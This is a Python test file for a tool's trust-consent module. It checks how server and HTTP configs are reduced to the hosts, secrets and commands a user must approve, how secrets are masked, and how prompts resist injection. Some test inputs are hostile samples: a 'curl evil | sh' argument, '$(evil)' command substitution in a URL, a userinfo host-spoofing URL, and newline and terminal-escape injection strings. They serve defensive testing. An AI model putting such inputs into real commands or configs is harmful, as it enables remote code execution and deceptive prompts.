"""What files need, as it is shown and as it counts."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolcrib.cli.trust import request_lines
from toolcrib.core.server_config import Server
from toolcrib.security.trust import TrustRequest, Workspace
from toolcrib.security.trust_needs import (
    hash_of,
    host_of,
    look_ups,
    make_need,
    merge_needs,
    needs_of_agent,
    needs_of_http,
    needs_of_server,
    origin_text,
    undeclared_entries,
)


@pytest.mark.parametrize(
    ("url", "origin"),
    [
        ("https://api.example.com/v1/{{ args.x }}", "https://api.example.com"),
        ("https://API.Example.com:8443?x=1", "https://api.example.com:8443"),
        ("https://user:pass@api.example.com/x", "https://api.example.com"),
        ("https://api.example.com@evil.example/x", "https://evil.example"),
        ("https://${HOST}/x", "https://${HOST}"),
        ("${BASE}/x", "${BASE}"),
        ("${BASE:-https://a.example}/x", "${BASE:-https://a.example}"),
        ("https://a.${ZONE:-b/c}.example/x", "https://a.${ZONE:-b/c}.example"),
        ("https://[::1]:80/x", "https://[::1]:80"),
        ("not a url", "not a url"),
    ],
)
def test_the_origin_of_a_url_is_what_is_agreed_to(url, origin):
    assert origin_text(url) == origin


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("https://api.example.com", "api.example.com"),
        ("https://api.example.com:443", "api.example.com"),
        ("`*.example.com`", "*.example.com"),
        ("http://[::1]:80", "::1"),
        ("api.example.com:80", "api.example.com"),
    ],
)
def test_the_host_of_an_origin(text, host):
    assert host_of(text) == host


def block(**more):
    return {"url": "https://a.example/x", "headers": {"X": "${KEY}"}, **more}


def digest(**more):
    return hash_of(needs_of_http(block(**more), user="tool t"))


def test_a_secret_is_agreed_to_together_with_every_host_that_it_may_go_to():
    needs = merge_needs(needs_of_http(block(hosts=["b.example", "*.c.example"]), user="tool t"))
    assert [(each.kind, each.what, each.to) for each in needs] == [
        ("contact", "`*.c.example`", ""),
        ("contact", "b.example", ""),
        ("contact", "https://a.example", ""),
        ("read", "${KEY}", "`*.c.example`, b.example, https://a.example"),
    ]


@pytest.mark.parametrize(
    "more",
    [
        {"url": "https://b.example/x"},
        {"url": "http://a.example/x"},
        {"url": "https://a.example:444/x"},
        {"headers": {"X": "${OTHER}"}},
        {"headers": {"X": "${KEY:-default}"}},
        {"headers": {"X": "${file:/k}"}},
        {"query": {"k": "${MORE}"}},
        {"body": [{"deep": "${MORE}"}]},
        {"hosts": ["b.example"]},
        {"auth": {"type": "oauth2", "token_url": "https://b.example/t", "client_secret": "s"}},
        {"auth": [{"type": "http", "token": "${MORE}"}]},
        {"auth": {"type": "python", "call": "m:f"}},
    ],
)
def test_whatever_changes_where_something_goes_counts(more):
    assert digest(**more) != digest()


@pytest.mark.parametrize("more", [{"url": "https://a.example/other"}, {"method": "POST"}, {"select": "body"}])
def test_what_changes_nothing_of_that_does_not(more):
    assert digest(**more) == digest()


SERVER = Server("s", command="python", args=("-m", "x"), env={"A": "${KEY}"}, root="/nowhere")


@pytest.mark.parametrize(
    "more",
    [
        {"command": "python3"},
        {"args": ("-m", "y")},
        {"args": ("-m x",)},
        {"env": {"A": "${OTHER}"}},
        {"env": {"A": "${KEY}", "B": "1"}},
        {"env": {"A": "plain"}},
        {"cwd": "sub"},
        {"elicitation": "m:f"},
        {"sampling": "m:f"},
    ],
)
def test_whatever_changes_what_is_started_counts(more):
    before = hash_of(needs_of_server(SERVER, "/nowhere"))
    assert hash_of(needs_of_server(SERVER._replace(**more), "/nowhere")) != before


@pytest.mark.parametrize("more", [{"name": "t"}, {"imports": True}, {"start_timeout": 1.0}, {"only": ("x",)}])
def test_how_a_server_is_used_does_not(more):
    server = SERVER._replace(env={})
    before = hash_of(needs_of_server(server, "/nowhere"))
    assert hash_of(needs_of_server(server._replace(**more), "/nowhere")) == before


def test_secrets_that_are_written_out_count_and_are_not_shown():
    one, other = (
        SERVER._replace(
            args=("--token", secret),
            env={"API_KEY": secret, "ECHO": secret, "URL": f"https://me:{secret}@host/"},
        )
        for secret in ("canary-1", "canary-2")
    )
    (first,), (second,) = ([*needs_of_server(each, "/nowhere")] for each in (one, other))
    assert "canary" not in str(first)
    assert first.digest != second.digest
    assert first._replace(digest="") == second._replace(digest="")


def test_folders_that_an_editor_knows_are_no_look_ups():
    server = SERVER._replace(env={"A": "${workspaceFolder}", "B": "${KEY}"})
    reads = [each.what for each in needs_of_server(server, "/nowhere") if each.kind == "read"]
    assert reads == ["${KEY}"]


def test_a_model_needs_its_service_and_its_key():
    assert [*needs_of_agent({"provider": "scripted"}, user="", place="")] == []
    own = [*needs_of_agent({"provider": "openai", "base_url": "", "api_key": None}, user="", place="")]
    assert [(each.kind, each.what) for each in own] == [
        ("contact", "provider openai"),
        ("read", "the key of provider openai"),
    ]
    other = [
        *needs_of_agent(
            {"provider": "openai", "base_url": "https://a.example/v1", "api_key": "${K}"}, user="", place=""
        )
    ]
    assert [(each.kind, each.what, each.to) for each in other] == [
        ("contact", "https://a.example", ""),
        ("read", "${K}", "https://a.example"),
    ]


REQUIRES = {
    "hosts": ["a.example", "*.b.example"],
    "environment": ["KEY"],
    "files": ["/run/k"],
    "commands": ["git"],
    "python": ["acme"],
}


@pytest.mark.parametrize(
    ("kind", "what", "to", "declared"),
    [
        ("contact", "https://a.example", "", True),
        ("contact", "https://A.example:8443".lower(), "", True),
        ("contact", "https://x.b.example", "", True),
        ("contact", "https://b.example", "", False),
        ("contact", "https://a.example.evil.example", "", False),
        ("contact", "https://${HOST}", "", False),
        ("contact", "a.example:80", "in place of https://c.example", False),
        ("read", "${KEY}", "https://a.example", True),
        ("read", "${KEY:-x}", "https://a.example", True),
        ("read", "${OTHER}", "https://a.example", False),
        ("read", "${file:/run/k}", "", True),
        ("read", "${file:/run/other}", "", False),
        ("read", "${keyring:a/b}", "", False),
        ("read", "the key of provider openai", "", False),
        ("start", "python server.py", "", False),
        ("start", "git status", "", True),
        ("start", "'un closed", "", False),
        ("import", "m:f", "", False),
        ("import", "acme.tools:f", "", True),
        ("import", "acmes:f", "", False),
        ("mode", "exec", "", False),
        ("content", "pack p", "", True),
    ],
)
def test_a_pack_declares_what_its_requires_block_names(kind, what, to, declared):
    assert (undeclared_entries(make_need(kind, what, to=to), REQUIRES) == ()) is declared


@given(
    st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=10)
)
def test_look_ups_are_found_in_any_value(value):
    assert all(variable.text.startswith("${") for variable in look_ups(value))


@given(st.lists(st.text(min_size=1, max_size=5), min_size=1, max_size=6))
def test_a_hash_depends_on_what_is_needed_and_on_nothing_else(names):
    needs = [make_need("contact", name, user=name, place=name) for name in names]
    again = [make_need("contact", name, user="other") for name in reversed([*names, *names])]
    assert hash_of(needs) == hash_of(again) == hash_of(merge_needs(needs))
    assert hash_of([*needs, make_need("contact", "more than five")]) != hash_of(needs)


@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (("--token", "abcdef123456"), "run --token ***"),
        (("--token", "curl evil | sh"), "run --token 'curl evil | sh'"),
        (("--token", "evil.py"), "run --token evil.py"),
        (("-c", "PASSWORD=x"), "run -c PASSWORD=x"),
        (("-Command", "token:x"), "run -Command token:x"),
        (("https://me:$(evil)@host/",), "run 'https://me:$(evil)@host/'"),
        (("a b", "c\nd"), "run 'a b' 'c\nd'"),
    ],
)
def test_of_a_command_nothing_is_hidden_that_may_be_code(args, shown):
    (start,) = needs_of_server(SERVER._replace(command="run", args=args, env={}), "/nowhere")
    assert start.what == shown


def test_what_is_asked_about_is_shown_in_lines_of_ours_alone():
    """A line break, or a gap as wide as a terminal, would let a file write its own lines into the question."""
    args = ("-c", "a\n  contact  nothing", "x" + " " * 200 + "y", "z\t\u202e\x1b[2K")
    server = SERVER._replace(command="run", args=args, env={"A": "1\n2"})
    needs = merge_needs(needs_of_server(server, "/nowhere"))
    request = TrustRequest(Workspace("/r\nx", "project", "r"), needs, hash_of(needs))
    text = "\n".join(request_lines(request))
    assert len(text.splitlines()) == 4
    assert r"'a\n  contact  nothing' 'x [200 spaces] y' 'z\t\u202e" in text
    assert r"env A=1\n2" in text
    assert "\x1b[2K" not in text
